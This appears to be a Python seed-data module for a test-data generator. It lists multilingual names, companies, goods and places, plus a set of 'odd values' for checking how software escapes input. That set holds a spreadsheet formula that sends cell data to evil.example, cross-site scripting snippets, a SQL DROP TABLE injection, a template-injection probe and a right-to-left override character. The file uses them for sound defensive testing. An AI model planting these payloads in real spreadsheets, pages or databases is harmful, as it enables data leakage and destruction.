"""List the names and oddities the seed draws from."""

FIRST_NAMES = (
    "Zoë", "Ana", "Bo", "Chidi", "Dagný", "Élodie", "Farid", "Gül", "Hana", "Ivo",
    "Jürgen", "Keiko", "Łucja", "Mateo", "Ola", "Priya", "Rosa", "Siân", "Tomáš",
    "小雨", "さくら", "민준", "Дмитрий", "Ελένη", "محمد", "נועה", "فاطمة",
)  # fmt: skip
LAST_NAMES = (
    "O'Neill", "García Márquez", "van der Berg", "Müller-Lüdenscheidt", "Nakamura",
    "Okafor", "Ångström", "Żółć", "Kowalski", "Þórsdóttir", "Dubois", "Novák",
    "Ó Súilleabháin", "Papadopoulos", "王", "佐藤", "김", "Иванова",
    "الخطيب", "כהן", "Null",
)  # fmt: skip
COMPANIES = (
    "Harbour Trading Ltd", "Blå & Sons", "Kestrel Logistics", "Nordmöbel GmbH",
    "Côté S.A.", "Ōkami 株式会社", "Red Fox Works", "Quay Collective", "شركة النور",
    "Ćwik Partners, LLC", "Boats <Inc>", "Alder Clinic",
)  # fmt: skip
GOODS = (
    "Brass lamp", "Oak stool", "Linen throw", "Chaise « Été »", "茶碗", "Mooring rope",
    "Anchor, 2 kg", "Sea chest", "Kompass", "فانوس", "Deck lantern", "Schrank Größe M",
)  # fmt: skip
PLACES = (
    "Boston",
    "Łódź",
    "São Paulo",
    "東京",
    "القاهرة",
    "Zürich",
    "Galway",
    "Reykjavík",
)
VERBS = ("Plan", "Review", "Ship", "Draft", "Fix", "Translate", "Order", "Entwerfen")
THINGS = (
    "the autumn range", "invoice layout", "harbour fair", "supplier contract",
    "Lagerplan", "товары", "店舗の看板", "catalogue page", "return policy",
)  # fmt: skip
ARTICLES = (
    "كيف تختار المصباح المناسب", "Warum Eiche?", "מדריך לאריזה",
    "Ten ways to tie a rope", "Le goût du sel", "冬の展示会", "Notes from the quay",
)  # fmt: skip
# Values people really paste into a cell, each a small trap for whoever shows it.
ODD_VALUES = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+1+1",
    "@SUM(1,1)",
    "\tTab first",
    "<script>alert('hi')</script>",
    "<b>bold</b> & <img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE students;--",
    "null",
    "{{ 7*7 }}",
    "Line one\r\nLine two",
    "\u202eright to left override",
    "مرحبا بالعالم — שלום",
    "e\u0301 combining",
    "👩‍👩‍👧‍👦 family",
    "   padded   ",
    "x" * 300,
)
NOTE = "Visited the store; talked about the autumn range — naïve façade, 東京 order. "
MARKDOWN = (
    "**Bold**, _soft_ and `code`\n\n- one\n- two\n\n[a link](https://example.com)"
    " <b>not HTML</b>\n"
)
